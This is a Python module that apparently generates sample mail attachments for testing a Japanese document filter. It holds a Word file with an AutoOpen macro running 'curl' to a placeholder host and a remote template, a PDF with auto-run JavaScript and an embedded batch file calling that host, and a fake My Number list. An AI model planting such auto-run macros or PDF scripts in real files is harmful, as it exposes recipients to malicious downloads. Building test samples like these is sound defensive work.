"""Files as they come by mail, made here byte by byte: each holds what must not get in.

`MARK` stands in every dangerous part, so that anybody can look for it before and after.
"""

from __future__ import annotations

import io
import re
import zipfile
import zlib
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

MARK = b"kiken.example"
NUMBER = "123456789018"
"""A 個人番号 of nobody, with the right check digit."""

OLD_NAME = "お知らせ.txt"
"""Inside the ZIP, written in Shift_JIS."""

_STREAM = re.compile(rb"stream\r?\n(.*?)\r?\nendstream", re.DOTALL)
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_DATE = (2026, 4, 1, 9, 0, 0)


@dataclass(frozen=True)
class Sample:
    """A file, and what is dangerous or delicate in it, in Japanese and English."""

    name: str
    content: bytes
    holds: tuple[str, str]


def samples() -> tuple[Sample, ...]:
    """The four files of the demonstration."""
    return (
        Sample(
            "回覧_様式.docm",
            word_with_macro(),
            ("マクロと、外から読み込むひな形", "a macro, and a template loaded from outside"),
        ),
        Sample(
            "対象者一覧.xlsx",
            sheet_with_numbers(),
            ("個人番号（マイナンバー）", "individual numbers (My Number)"),
        ),
        Sample(
            "申請の手引き.pdf",
            pdf_with_script(),
            ("JavaScript と添付ファイル", "JavaScript and an attached file"),
        ),
        Sample(
            "資料.zip",
            zip_with_old_name(),
            ("シフト JIS で書かれたファイル名", "a file name written in Shift_JIS"),
        ),
    )


def write_samples(folder: Path) -> list[Path]:
    """The files in a new folder."""
    folder.mkdir()
    paths = []
    for one in samples():
        paths.append(folder / one.name)
        paths[-1].write_bytes(one.content)
    return paths


def expanded(content: bytes) -> bytes:
    """Everything in a file, unpacked as far as it goes: members of ZIPs, streams of PDFs."""
    parts = [content]
    if content.startswith(b"PK\x03\x04"):
        with zipfile.ZipFile(io.BytesIO(content)) as found:
            for info in found.infolist():
                parts += [info.filename.encode(), expanded(found.read(info))]
    for stream in _STREAM.findall(content) if content.startswith(b"%PDF") else ():
        parts.append(zlib.decompressobj().decompress(stream) if stream[:1] == b"x" else stream)
    return b"\n".join(parts)


def word_with_macro() -> bytes:
    """A Word document with a macro and a remote template."""
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return _packed(
        {
            "[Content_Types].xml": _content_types(
                {
                    "/word/document.xml": main,
                    "/word/settings.xml": f"{word}.settings+xml",
                    "/word/vbaProject.bin": "application/vnd.ms-office.vbaProject",
                }
            ),
            "_rels/.rels": _relationships(
                [("rId1", f"{_OFFICE}/officeDocument", "word/document.xml")]
            ),
            "word/document.xml": _XML
            + f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>職員の皆様へ　回覧します。'
            "</w:t></w:r></w:p><w:sectPr/></w:body></w:document>",
            "word/_rels/document.xml.rels": _relationships(
                [
                    ("rId1", f"{_OFFICE}/settings", "settings.xml"),
                    (
                        "rId2",
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "vbaProject.bin",
                    ),
                ]
            ),
            "word/settings.xml": _XML + f'<w:settings xmlns:w="{_WORD}" xmlns:r="{_OFFICE}">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": _relationships(
                [("rId1", f"{_OFFICE}/attachedTemplate", f"https://{MARK.decode()}/t.dotm")],
                external=True,
            ),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + b'Sub AutoOpen()\r\nShell "curl '
            + MARK
            + b'"\r\nEnd Sub\r\n'
            + bytes(512),
        }
    )


def sheet_with_numbers() -> bytes:
    """A spreadsheet with people and their numbers."""
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    rows = [("氏名", "個人番号"), ("佐藤 花子", NUMBER), ("田中 実", NUMBER)]
    return _packed(
        {
            "[Content_Types].xml": _content_types(
                {
                    "/xl/workbook.xml": f"{sheet}.sheet.main+xml",
                    "/xl/worksheets/sheet1.xml": f"{sheet}.worksheet+xml",
                }
            ),
            "_rels/.rels": _relationships(
                [("rId1", f"{_OFFICE}/officeDocument", "xl/workbook.xml")]
            ),
            "xl/workbook.xml": _XML + f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets>'
            '<sheet name="名簿" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": _relationships(
                [("rId1", f"{_OFFICE}/worksheet", "worksheets/sheet1.xml")]
            ),
            "xl/worksheets/sheet1.xml": _XML
            + f'<worksheet xmlns="{_SHEET}"><sheetData>{_sheet_rows(rows)}</sheetData></worksheet>',
        }
    )


def _sheet_rows(rows: Sequence[tuple[str, ...]]) -> str:
    found = []
    for number, row in enumerate(rows, 1):
        cells = "".join(
            f'<c r="{"ABCD"[column]}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
            for column, text in enumerate(row)
        )
        found.append(f'<row r="{number}">{cells}</row>')
    return "".join(found)


def pdf_with_script() -> bytes:
    """A PDF of one page that runs a script when it is opened and carries a file."""
    text = b"BT /F1 18 Tf 72 720 Td (How to apply) Tj ET"
    inside = b"@echo off\r\ncurl " + MARK + b"\r\n"
    return _numbered(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/Names<</EmbeddedFiles<</Names"
            b"[(start.bat) 7 0 R]>>>>>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</Font<</F1 5 0 R>>>>>>",
            _stream(text),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            b"<</S/JavaScript/JS(app.launchURL\\('https://" + MARK + b"/'\\))>>",
            b"<</Type/Filespec/F(start.bat)/UF(start.bat)/EF<</F 8 0 R>>>>",
            _stream(inside, b"/Type/EmbeddedFile"),
        ]
    )


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (more, len(content), content)


def _numbered(objects: Sequence[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    start, size = len(out), len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    return bytes(out)


def zip_with_old_name() -> bytes:
    """A ZIP as Windows made them for decades: the name inside is Shift_JIS and says so nowhere."""
    name = OLD_NAME.encode("cp932")
    stand_in = b"x" * len(name)
    packed = _packed({stand_in.decode(): "会議室が変わりました。\r\n".encode()})
    return packed.replace(stand_in, name)


def _packed(parts: Mapping[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name, _DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            made.writestr(info, content)
    return out.getvalue()


def _content_types(overrides: Mapping[str, str]) -> str:
    rels = "application/vnd.openxmlformats-package.relationships+xml"
    rows = "".join(
        f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides.items()
    )
    return (
        _XML + f'<Types xmlns="{_TYPES}"><Default Extension="rels" ContentType="{rels}"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{rows}</Types>'
    )


def _relationships(rows: Sequence[tuple[str, str, str]], *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    inner = "".join(
        f'<Relationship Id="{name}" Type="{kind}" Target="{target}"{mode}/>'
        for name, kind, target in rows
    )
    return _XML + f'<Relationships xmlns="{_RELS}">{inner}</Relationships>'
